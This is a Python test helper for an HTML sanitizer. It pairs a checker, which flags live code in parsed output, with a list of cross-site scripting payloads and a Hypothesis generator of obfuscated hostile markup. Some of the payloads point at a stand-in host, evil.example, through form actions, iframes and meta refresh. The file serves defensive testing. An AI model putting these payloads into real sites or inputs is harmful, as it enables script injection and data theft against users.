"""Hostile markup for the tests: known attacks, a generator of new ones, and
a check that reads HTML back the way a browser does (html5lib)."""

from __future__ import annotations

import re
from collections.abc import Collection
from urllib.parse import urlsplit

import html5lib
from hypothesis import strategies as st

SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "cite",
    "background",
    "xlink:href",
    "srcset",
    "lowsrc",
    "dynsrc",
    "ping",
    "manifest",
}
LIVE_ELEMENTS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "base",
    "meta",
    "link",
    "svg",
    "math",
    "template",
    "noscript",
    "video",
    "audio",
    "source",
    "body",
    "html",
    "head",
    "title",
}
# What a browser does to a URL before reading its scheme (WHATWG URL):
# strip leading/trailing C0 controls and spaces, drop tabs and newlines.
_C0_SPACE = "".join(chr(c) for c in range(0x21))


def scheme_of(url: str) -> str:
    url = url.strip(_C0_SPACE).replace("\t", "").replace("\n", "").replace("\r", "")
    match = re.match(r"^([A-Za-z][A-Za-z0-9+.\-]*):", url)
    return match.group(1).lower() if match else ""


# What a story page may show from its body (the default embed hosts).
PAGE_MEDIA = {"video", "audio", "source", "track"}


def _embeddable(url: str, hosts: Collection[str]) -> bool:
    parts = urlsplit(url.strip())
    host = (parts.hostname or "").lower()
    return parts.scheme == "https" and any(
        host == h or host.endswith("." + h) for h in hosts
    )


def live_parts(
    fragment: str,
    *,
    own_styles: bool = False,
    embed_hosts: Collection[str] | None = None,
    document: bool = False,
) -> list[str]:
    """What in ``fragment`` a browser would treat as live code.

    ``own_styles``: ``style`` attributes are the output's own (the email's
    inlined CSS); only a ``url()`` or ``expression()`` in one counts then.
    ``embed_hosts``: the fragment is a story page's body, which may show
    video and audio, layout styles, and ``https`` iframes from these hosts.
    ``document``: parse a whole page, not a fragment.
    """
    page_body = embed_hosts is not None
    hosts = embed_hosts or ()
    styles_ok = own_styles or page_body
    if document:
        tree = html5lib.parse(
            fragment, treebuilder="etree", namespaceHTMLElements=False
        )
    else:
        tree = html5lib.parseFragment(
            fragment, treebuilder="etree", namespaceHTMLElements=False
        )
    found: list[str] = []
    for element in tree.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        name = tag.rsplit("}", 1)[-1].lower()
        embed = name == "iframe" and _embeddable(element.get("src") or "", hosts)
        if name in LIVE_ELEMENTS and not (page_body and (embed or name in PAGE_MEDIA)):
            found.append(f"<{name}>")
        for attr, value in element.attrib.items():
            attr = attr.rsplit("}", 1)[-1].lower()
            if attr.startswith("on"):
                found.append(f"{name}[{attr}]")
            if attr == "style" and not (
                styles_ok and not re.search(r"url\(|expression", value, re.I)
            ):
                found.append(f"{name}[{attr}={value!r}]")
            if attr in URL_ATTRIBUTES and scheme_of(value) not in SAFE_SCHEMES | {""}:
                found.append(f"{name}[{attr}={value!r}]")
            if attr in {"srcset", "action", "formaction", "data", "background"}:
                found.append(f"{name}[{attr}]")
    return found


ATTACKS = [
    '<p/onclick="alert(1)">x</p>',
    "<P ONCLICK=alert(1)>x</P>",
    '<img src=x onerror="alert(1)">',
    '<img/src="x"/onerror=alert(1)>',
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<iframe src=https://evil.example></iframe>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name=q><button>go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<a href="javascript:alert(1)">j</a>',
    '<a href="JaVaScRiPt:alert(1)">j</a>',
    '<a href=" \x01javascript:alert(1)">j</a>',
    '<a href="jav&#x09;ascript:alert(1)">j</a>',
    '<a href="jav\tascript:alert(1)">j</a>',
    '<a href="jav\nascript:alert(1)">j</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    'alert(1)">j</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">j</a>',
    '<a href="vbscript:msgbox(1)">v</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<span style="background:url(javascript:alert(1))">s</span>',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
    '<video poster="javascript:alert(1)"><source src=x onerror=alert(1)></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<a href="https://ok.example/" onmouseover="alert(1)">ok</a>',
    "<!--<script>alert(1)</script>-->x",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<img src="x" srcset="javascript:alert(1) 1x">',
    '<div><a href="javascript:alert(1)"',
    "<<img src=x onerror=alert(1)//",
]


_SCHEMES = [
    "javascript",
    "JaVaScRiPt",
    "vbscript",
    "data",
    "livescript",
    "jav\tascript",
]
_ENCODINGS = [
    lambda s: s,
    lambda s: "".join(f"&#{ord(c)};" for c in s),
    lambda s: "".join(f"&#x{ord(c):x};" for c in s),
    lambda s: s.replace(":", "&colon;"),
    lambda s: " \x01\x0b" + s,
    lambda s: s[:3] + "\n" + s[3:],
    lambda s: s[:2] + "\x00" + s[2:],
]
_TAGS = [
    "a",
    "img",
    "iframe",
    "form",
    "object",
    "embed",
    "svg",
    "math",
    "base",
    "meta",
    "link",
    "script",
    "style",
    "video",
    "p",
    "div",
    "span",
    "input",
    "button",
    "details",
    "marquee",
    "body",
    "frameset",
    "table",
    "td",
]
# Every URL-bearing attribute, then the other attributes an attack uses.
_ATTRS = [
    *sorted(URL_ATTRIBUTES),
    "style",
    "onclick",
    "onerror",
    "ONLOAD",
    "onmouseover",
    "http-equiv",
    "content",
    "title",
    "alt",
]


@st.composite
def hostile_url(draw: st.DrawFn) -> str:
    scheme = draw(st.sampled_from(_SCHEMES))
    encode = draw(st.sampled_from(_ENCODINGS))
    return encode(f"{scheme}:alert(1)")


@st.composite
def hostile_element(draw: st.DrawFn, depth: int = 0) -> str:
    tag = draw(st.sampled_from(_TAGS))
    if draw(st.booleans()):
        tag = tag.upper()
    attrs = []
    for _ in range(draw(st.integers(0, 3))):
        name = draw(st.sampled_from(_ATTRS))
        value = draw(
            st.one_of(
                hostile_url(),
                st.sampled_from(
                    [
                        "alert(1)",
                        "x",
                        "url(javascript:alert(1))",
                        "0;url=javascript:alert(1)",
                    ]
                ),
            )
        )
        quote = draw(st.sampled_from(['"', "'", ""]))
        sep = draw(st.sampled_from([" ", "/", "\n", "\t", " /"]))
        attrs.append(f"{sep}{name}={quote}{value}{quote}")
    inner = ""
    if depth < 2 and draw(st.booleans()):
        inner = draw(hostile_element(depth + 1))
    text = draw(st.sampled_from(["", "text", "<", "&", "<!--", "-->", "alert(1)"]))
    close = draw(st.sampled_from([f"</{tag}>", "", f"</{tag.lower()} >"]))
    return f"<{tag}{''.join(attrs)}>{text}{inner}{close}"
